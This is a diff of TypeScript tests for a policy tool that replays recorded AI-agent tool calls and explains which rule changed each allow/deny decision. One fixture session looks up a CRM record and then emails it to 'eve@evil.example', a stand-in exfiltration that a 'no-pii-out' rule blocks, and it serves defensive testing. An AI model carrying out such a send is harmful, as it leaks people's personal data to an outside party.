@@ -221,6 +221,73 @@ describe("policyc diff: the rule that caused a change", () => {
     expect((await json(["diff", before!, after!, "--replay", twoSessions!])).changed).toBe(2);
   });
 
+  it("a carried change is the latest earlier change of the session that altered what the unchanged rule reads", async () => {
+    const fixture = readFileSync(join(ROOT, "test/fixtures/replay/diff-carried/old.policy"), "utf8");
+    // OLD: the fixture with `search`; NEW tightens both `search` and `lookup`.
+    const withSearch = (search: string, lookup: string): string =>
+      fixture.replace("tool crm.lookup", "tool kb.search {\n  args { q: string }\n}\ntool crm.lookup").replace('  @name("lookup")\n  allow crm.lookup\n', `  @name("search")\n  allow kb.search${search}\n\n  @name("lookup")\n  allow crm.lookup${lookup}\n`);
+    const search = '{"session":"s1","tool":"kb.search","args":{"q":"secret"}}';
+    const lookup = '{"session":"s1","tool":"crm.lookup","args":{"id":"7"}}';
+    const send = '{"session":"s1","tool":"email.send","args":{"to":"eve@evil.example"}}';
+    const [before, after, searchFirst, lookupFirst] = write({
+      "two-old.policy": withSearch("", ""),
+      "two-new.policy": withSearch('\n    when args.q != "secret"', '\n    when args.id != "7"'),
+      "two-a.jsonl": [search, lookup, send, ""].join("\n"),
+      "two-b.jsonl": [lookup, search, send, ""].join("\n"),
+    });
+    // Denying the lookup kept `pii` out of the session: the mail is the lookup's change, not the search's (the session's first).
+    const a = await json(["diff", before!, after!, "--replay", searchFirst!]);
+    expect(causes(a)).toEqual({ "~lookup": { "allow→deny": 1, "deny→allow": 1 }, "~search": { "allow→deny": 1 } });
+    expect(a.byCause["~lookup"]!.changes.map((c) => [c.line, c.via])).toEqual([
+      [2, undefined],
+      [3, { rule: "-no-pii-out", file: searchFirst, line: 2 }],
+    ]);
+    // Nor the search's when it is the latest: a search denied adds no label to the session.
+    const b = await json(["diff", before!, after!, "--replay", lookupFirst!]);
+    expect(b.byCause["~lookup"]!.changes.map((c) => [c.line, c.via])).toEqual([
+      [1, undefined],
+      [3, { rule: "-no-pii-out", file: lookupFirst, line: 1 }],
+    ]);
+    expect(b.byCause["~search"]!.carried).toBe(0);
+  });
+
+  it("an unchanged rule that reads no session state is not carried by the session's earlier change", async () => {
+    const policy = (tools: string, lookup: string): string =>
+      `tool kb.search {\n  args { q: string }\n}\ntool crm.lookup {\n  args { id: string }\n}\nintent work {\n  tools ${tools}\n  max_risk medium\n}\npolicy p {\n  @name("search")\n  allow kb.search\n\n  @name("lookup")\n  allow crm.lookup${lookup}\n\n  @name("off-intent")\n  deny *\n    when not (tool in intent.tools)\n    reason "off intent"\n}\n`;
+    const search = (session: string): string => `{"session":"${session}","intent":"work","tool":"kb.search","args":{"q":"x"}}`;
+    const [before, after, calls] = write({
+      "ni-old.policy": policy("crm.lookup, kb.search", ""),
+      "ni-new.policy": policy("crm.lookup", '\n    when args.id != "7"'),
+      "ni.jsonl": ['{"session":"s1","intent":"work","tool":"crm.lookup","args":{"id":"7"}}', search("s1"), search("s2"), ""].join("\n"),
+    });
+    // The same search in s1, after the lookup's change, and in s2 is the same change: the intent's.
+    const report = await json(["diff", before!, after!, "--replay", calls!]);
+    expect(causes(report)).toEqual({ "+off-intent (unchanged rule)": { "allow→deny": 2 }, "~lookup": { "allow→deny": 1 } });
+    expect(report.byCause["~lookup"]!.carried).toBe(0);
+    expect(report.byCause["+off-intent (unchanged rule)"]!.changes.map((c) => [c.line, c.via])).toEqual([
+      [2, undefined],
+      [3, undefined],
+    ]);
+  });
+
+  it("a tool declared otherwise in what the deciding rules do not read (arguments reordered, an argument added, its risk) leaves a carried change to the session", async () => {
+    const [before, after, calls] = ["old.policy", "new.policy", "rec.jsonl"].map((name) => `test/fixtures/replay/diff-carried/${name}`);
+    const fixture = readFileSync(join(ROOT, after!), "utf8");
+    const [reordered, added] = write({
+      "decl-reordered.policy": fixture.replace("args { to: string }", "args { subject?: string, to: string }"),
+      "decl-added.policy": fixture.replace("args { to: string }", "args { to: string, cc?: string }"),
+    });
+    const [beforeWithSubject] = write({ "decl-old.policy": readFileSync(join(ROOT, before!), "utf8").replace("args { to: string }", "args { to: string, subject?: string }") });
+    for (const [from, to] of [[beforeWithSubject!, reordered!], [before!, added!]] as const) {
+      const report = await json(["diff", from, to, "--replay", calls!]);
+      expect(causes(report)).toEqual({ "~lookup": { "allow→deny": 1, "deny→allow": 1 } });
+      expect(report.byCause["~lookup"]!.changes[1]!.via).toEqual({ rule: "-no-pii-out", file: calls, line: 1 });
+    }
+    // Nor does another risk, which no deciding rule reads (`tool.risk`); the test above has one that does.
+    const [risky] = write({ "decl-risk.policy": fixture.replace("tool email.send {", "tool email.send {\n  risk high") });
+    expect(Object.keys((await json(["diff", before!, risky!, "--replay", calls!])).byCause)).toEqual(["~lookup"]);
+  });
+
   it("an unchanged rule that decides differently because its tool is declared differently is the declaration's change (`~tool NAME`)", async () => {
     const policy = (risk: string): string => `tool http.get {\n  risk ${risk}\n  args { url: string }\n}\npolicy p {\n  @name("web")\n  allow http.get\n\n  @name("no-risky")\n  deny *\n    when tool.risk == high\n}\n`;
     const [before, after, calls] = write({ "k-old.policy": policy("medium"), "k-new.policy": policy("high"), "k.jsonl": '{"session":"s1","tool":"http.get","args":{"url":"https://wiki"}}\n' });
